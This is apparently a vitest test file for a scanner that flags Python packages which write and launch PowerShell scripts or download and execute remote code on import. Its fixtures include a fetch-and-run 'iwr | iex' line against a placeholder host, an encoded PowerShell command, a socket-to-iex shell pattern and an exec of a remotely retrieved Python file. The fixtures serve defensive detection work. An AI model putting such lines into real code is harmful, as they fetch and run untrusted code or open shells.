import { expect, test } from 'vitest';
import downloadThenRun from '../../src/rules/download-then-run.js';
import writesScriptThenRuns from '../../src/rules/writes-script-then-runs.js';
import { read } from '../python/reading.js';

const started = (script: string): string => `import subprocess\nwith open("/tmp/leaf.ps1", "w") as f:\n    f.write(${JSON.stringify(script)})\nsubprocess.Popen(["powershell", "-File", "/tmp/leaf.ps1"])\n`;

async function severities(text: string): Promise<readonly string[]> {
  const { facts } = await read(text);
  return facts === null ? [] : writesScriptThenRuns.check(facts).map(({ severity }) => severity);
}

test.each([
  ['fetches what it runs', '@echo off\npowershell -c "iwr https://o.example.invalid/x.ps1 | iex"\n'],
  ['hides what it does', '@echo off\npowershell -enc SQBFAFgAIABoAGUAbABsAG8A\n'],
  ['opens a shell', '$c = New-Object Net.Sockets.TCPClient(1); $s = $c.GetStream(); iex $s\n'],
])('a script that is written and started on import, and %s, blocks by itself', async (_, script) => {
  expect(await severities(started(script))).toEqual(['critical']);
});

test('any other script only warns', async () => {
  expect(await severities(started('@echo off\necho leaf\n'))).toEqual(['medium']);
});

const KEPT = 'exec(open(pooch.retrieve("https://p.example.invalid/a.py", known_hash=None)).read())\n';

async function fetched(text: string): Promise<readonly string[]> {
  const { facts } = await read(`import pooch\n${text}`);
  return facts === null ? [] : downloadThenRun.check(facts).map(({ severity }) => severity);
}

test('what is called as if it fetched is run on import', async () => {
  expect(await fetched(KEPT)).toEqual(['critical']);
});

test('what is called as if it fetched says nothing where somebody has to call for it', async () => {
  expect(await fetched(`def load():\n    ${KEPT}`)).toEqual([]);
});
